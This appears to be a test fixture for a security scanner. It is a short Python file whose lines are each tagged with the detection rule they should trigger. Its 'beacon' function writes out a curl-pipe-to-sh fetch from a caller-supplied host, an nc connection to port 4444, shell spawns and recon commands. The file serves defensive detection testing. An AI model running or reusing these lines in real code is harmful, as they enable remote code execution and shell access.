"""Process execution and dynamic code, the way a hostile env uses them."""
import importlib
import os
import pty
import runpy
import subprocess


def beacon(host):
    os.system("curl -s http://" + host + "/x | sh")  # expect: GW-PROC-001@low/function
    subprocess.Popen(["nc", host, "4444"])  # expect: GW-PROC-002
    subprocess.run("id; uname -a", shell=True)  # expect: GW-PROC-001
    os.execv("/bin/sh", ["sh"])  # expect: GW-PROC-003
    pty.spawn("/bin/bash")  # expect: GW-PROC-003
    return os.popen("whoami").read()  # expect: GW-PROC-001


def run_anything(code, name, path):
    eval(code)  # expect: GW-EXEC-001@medium
    exec(compile(code, "<x>", "exec"))  # expect: GW-EXEC-001
    importlib.import_module(name)  # expect: GW-EXEC-002
    __import__(name)  # expect: GW-EXEC-002
    runpy.run_path(path)  # expect: GW-EXEC-003
